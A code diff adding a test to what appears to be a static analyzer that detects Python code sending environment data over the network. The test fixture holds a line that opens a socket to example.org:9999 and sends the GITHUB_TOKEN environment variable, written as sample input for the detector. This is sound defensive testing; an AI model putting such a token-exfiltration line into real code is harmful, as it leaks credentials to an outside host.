@@ -286,3 +286,12 @@ def test_a_name_imported_from_a_source_module():
     analysis = run(text)
     assert one(analysis, "urllib.request.urlopen", 4).data_sources == ("env",)
     assert one(analysis, "urllib.request.urlopen", 5).data_sources == ("env K", "hostname")
+
+
+def test_data_sent_on_a_connection_made_in_the_same_expression():
+    code = (b"import os, socket\n"
+            b"def _send():\n"
+            b"    socket.create_connection(('example.org', 9999)).sendall(os.environ.get('GITHUB_TOKEN', '').encode())\n")
+    [finding] = PythonAnalyzer().analyze(SourceFile("x.py", code)).findings
+    assert (finding.api, finding.line, finding.data_sources) == ("socket.create_connection", 3, ("env GITHUB_TOKEN",))
+    assert [d.text for d in finding.destinations] == ["example.org:9999"]
